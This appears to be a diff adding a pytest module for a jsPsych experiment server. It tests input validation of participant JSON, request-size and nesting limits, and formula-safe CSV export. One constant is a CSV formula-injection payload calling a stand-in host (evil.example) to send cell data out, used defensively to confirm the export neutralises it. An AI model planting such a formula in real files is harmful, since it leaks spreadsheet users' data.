@@ -1,0 +1,209 @@
+"""Issue #36 rows 9 and 10: what a participant sends is held to one set of rules, whichever endpoint takes it.
+
+A plan-less row (POST …/rows, a researcher's jsPsych experiment) and a trial's response go through one check of a
+JSON value (server/tasktype/jsonvalue.py): no lone surrogates (in values or keys), no NUL, no integer a browser's
+JSON cannot hold exactly, no non-finite number, no nesting past its limit; a refusal names the bad value's path and
+stores nothing. Every body the participant API reads is refused (400) when nested too deep to parse, and a chunked
+body over the size limit is a 413 like one with a Content-Length. The writers: trials.csv's header cells are
+formula-safe like its other cells, a row's booleans are written as JSON writes them, and a value stored before these
+checks that UTF-8 cannot write does not empty the export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import uuid
+from datetime import UTC, datetime
+
+import pytest
+
+from server.db import db
+from server.exceptions import ResponseError
+from server.models import ParticipantSession, Trial
+from server.tasktype.jsonvalue import MAX_DEPTH, check
+from tests.conftest import BACKEND
+from tests.helpers import enter
+from tests.jspsych_study import EXPERIMENT, jspsych_app
+from tests.test_export import formulas
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
+
+
+@pytest.fixture
+def app(tmp_path):
+    with jspsych_app(tmp_path, own=EXPERIMENT) as app:
+        yield app
+
+
+def post_row(client, token, row, trial_id=None):
+    body = {"trial_id": trial_id or str(uuid.uuid4()), "row": row, "client_time": "2026-11-25T12:00:00+00:00"}
+    return client.post(f"/api/sessions/{token}/rows", json=body)
+
+
+def stored(token):
+    db.session.rollback()
+    return db.session.scalars(
+        db.select(Trial.response)
+        .join(ParticipantSession)
+        .where(ParticipantSession.token == token)
+        .order_by(Trial.trial_index)
+    ).all()
+
+
+def nested(depth, leaf=1):
+    value = leaf
+    for _ in range(depth):
+        value = {"deep": value}
+    return value
+
+
+@pytest.mark.parametrize(
+    ("row", "field", "words"),
+    [
+        ({"response": {"Q0": "smile \ud83d"}}, "row.response.Q0", "lone surrogate"),  # half an emoji (.slice())
+        ({"response": {"\udfff": "yes"}}, "row.response", "lone surrogate"),  # in a key
+        ({"stimulus": "a\x00b"}, "row.stimulus", "NUL"),
+        ({"n\x00": 1}, "row", "NUL"),
+        ({"n": 2**53}, "row.n", "2^53"),
+        ({"n": -(2**53)}, "row.n", "2^53"),
+        ({"view_history": [{"t": 0}, {"t": 10**400}]}, "row.view_history[1].t", "2^53"),  # crashed flask analyze
+        ({"a": nested(MAX_DEPTH)}, "row.a" + ".deep" * (MAX_DEPTH - 1), f"{MAX_DEPTH} levels"),
+    ],
+)
+def test_a_row_no_reader_can_handle_is_refused_naming_the_value(client, row, field, words):
+    token = enter(client, slug="own")
+    refused = post_row(client, token, {"trial_type": "survey-text", "rt": 900, **row})
+    answer = refused.get_json()
+    assert (refused.status_code, answer["error"], answer["field"]) == (422, "invalid_response", field), answer
+    assert words in answer["message"]
+    assert stored(token) == []
+
+
+def test_values_within_the_rules_are_stored_as_sent(client):
+    token = enter(client, slug="own")
+    row = {
+        "big": 2**53 - 1,
+        "small": -(2**53 - 1),
+        "x": 1e300,
+        "emoji": "smile \U0001f600",
+        "text": "tab\tand\nline",
+        "a": nested(MAX_DEPTH - 1),
+        "ok": True,
+    }
+    assert post_row(client, token, row).status_code == 201
+    assert stored(token) == [row]
+
+
+def test_one_check_for_rows_and_trial_responses():
+    """The check names the path below where the caller says the value is (`response` for a trial's)."""
+    check({"guesses": [{"label_id": "bat1", "rt_ms": 2300}]}, "response")
+    for value, field in (
+        ({"guesses": [{"label_id": "bat\ud800"}]}, "response.guesses[0].label_id"),
+        ({"percent": float("nan")}, "response.percent"),
+        ({"percent": float("-inf")}, "response.percent"),
+        ([1, [2, 2**60]], "response[1][1]"),
+    ):
+        with pytest.raises(ResponseError) as refused:
+            check(value, "response")
+        assert refused.value.field == field
+
+
+ENDPOINTS = (
+    ("put", "environment", "screen_width"),
+    ("put", "surveys/consent", "answers"),
+    ("post", "trials", "response"),
+    ("post", "rows", "row"),
+    ("post", "end", "outcome"),
+)
+
+
+@pytest.mark.parametrize("depth", [100, 2000])  # 2000: deeper than Python's parser recurses (a 500 before)
+def test_a_body_nested_too_deep_is_a_400_on_every_endpoint(client, depth):
+    token = enter(client, slug="own")
+    for method, path, field in ENDPOINTS:
+        body = f'{{"trial_id": "deep-one-1", "{field}": {"[" * depth + "]" * depth}}}'
+        answer = getattr(client, method)(f"/api/sessions/{token}/{path}", data=body, content_type="application/json")
+        assert (answer.status_code, answer.get_json()["error"]) == (400, "too_deep"), (path, answer.data[:200])
+    assert stored(token) == []
+
+
+def chunked(client, method, url, body):
+    """A request with Transfer-Encoding: chunked and no Content-Length, as werkzeug's and granian's servers hand it
+    on (wsgi.input_terminated: the server ends the stream)."""
+    return getattr(client, method)(
+        url,
+        input_stream=io.BytesIO(body),
+        headers={"Transfer-Encoding": "chunked", "Content-Type": "application/json"},
+        environ_overrides={"wsgi.input_terminated": True},
+    )
+
+
+def test_a_chunked_body_over_the_limit_is_a_413(app, client):
+    token = enter(client, slug="own")
+    limit = app.config["PARTICIPANT_MAX_BODY"]
+    sizes = {"screen_width": 800, "screen_height": 600, "window_width": 800, "window_height": 600}
+    fits = json.dumps(sizes).encode()
+    over = json.dumps({**sizes, "pad": "x" * limit}).encode()
+    assert chunked(client, "put", f"/api/sessions/{token}/environment", fits).status_code == 200
+    too_big = chunked(client, "put", f"/api/sessions/{token}/environment", over)
+    assert too_big.status_code == 413, too_big.data[:200]
+    exactly = fits[:-1] + b" " * (limit - len(fits)) + b"}"  # a body that fills the limit exactly is taken
+    assert len(exactly) == limit
+    assert chunked(client, "put", f"/api/sessions/{token}/environment", exactly).status_code == 200
+    row = json.dumps({"trial_id": "chunked-row", "row": {"text": "x" * 2_000_000}}).encode()
+    big_row = chunked(client, "post", f"/api/sessions/{token}/rows", row)
+    assert (big_row.status_code, big_row.get_json()["error"]) == (413, "row_too_large")
+    assert stored(token) == []
+
+
+def export(runner, tmp_path):
+    result = runner.invoke(args=["export", "own", "--out", str(tmp_path / "out")])
+    assert result.exit_code == 0, result.output
+    return {name: (tmp_path / "out" / name).read_text(encoding="utf-8") for name in ("trials.csv", "codebook.csv")}
+
+
+def test_trials_csv_header_cells_are_formula_safe_and_booleans_written_as_json(client, runner, auth, tmp_path):
+    token = enter(client, slug="own")
+    for n, correct in enumerate((True, False, True)):
+        assert post_row(client, token, {"trial_index": n, "correct": correct, HYPERLINK: "=1+1"}).status_code == 201
+    files = export(runner, tmp_path)
+    assert formulas(files["trials.csv"]) == [] and formulas(files["codebook.csv"]) == []
+    header, *rows = list(csv.reader(io.StringIO(files["trials.csv"])))
+    assert "'" + HYPERLINK in header
+    cells = [dict(zip(header, r)) for r in rows]
+    assert [c["correct"] for c in cells] == ["true", "false", "true"]  # as JSON (and jsPsych's .csv()) writes them
+    assert [c["'" + HYPERLINK] for c in cells] == ["'=1+1"] * 3
+    book = {r["column"]: r for r in csv.DictReader(io.StringIO(files["codebook.csv"])) if r["file"] == "trials.csv"}
+    assert list(book) == header  # the codebook names each column as the file does
+    assert (book["correct"]["type"], book["correct"]["levels"]) == ("boolean", "[false,true]")
+    auth.login()
+    download = client.get("/researcher/studies/own/trials.csv")
+    assert download.status_code == 200 and download.get_data(as_text=True) == files["trials.csv"]
+
+
+@pytest.mark.skipif(BACKEND != "sqlite", reason="stored as rows were before the check; SQLite takes them as given")
+def test_a_stored_value_utf8_cannot_write_does_not_empty_the_export(client, runner, auth, tmp_path):
+    token = enter(client, slug="own")
+    assert post_row(client, token, {"trial_index": 0, "word": "fine"}).status_code == 201
+    session_id = db.session.scalar(db.select(ParticipantSession.id).filter_by(token=token))
+    db.session.add(
+        Trial(
+            session_id=session_id,
+            trial_index=10**6,
+            client_trial_id="stored-before-the-check",
+            practice=False,
+            response={"trial_index": 1, "word": "smile \ud83d", "\udfff": "key"},
+            score={},
+            created_at=datetime(2026, 11, 1, tzinfo=UTC),
+        )
+    )
+    db.session.commit()
+    files = export(runner, tmp_path)
+    header, *rows = list(csv.reader(io.StringIO(files["trials.csv"])))
+    assert len(rows) == 2  # both rows, the one UTF-8 cannot write with its surrogates as JSON escapes them
+    assert "\\udfff" in header and dict(zip(header, rows[1]))["word"] == "smile \\ud83d"
+    auth.login()
+    for name in ("trials.csv", "codebook.csv"):
+        download = client.get(f"/researcher/studies/own/{name}")
+        assert download.status_code == 200 and download.get_data(as_text=True) == files[name], name
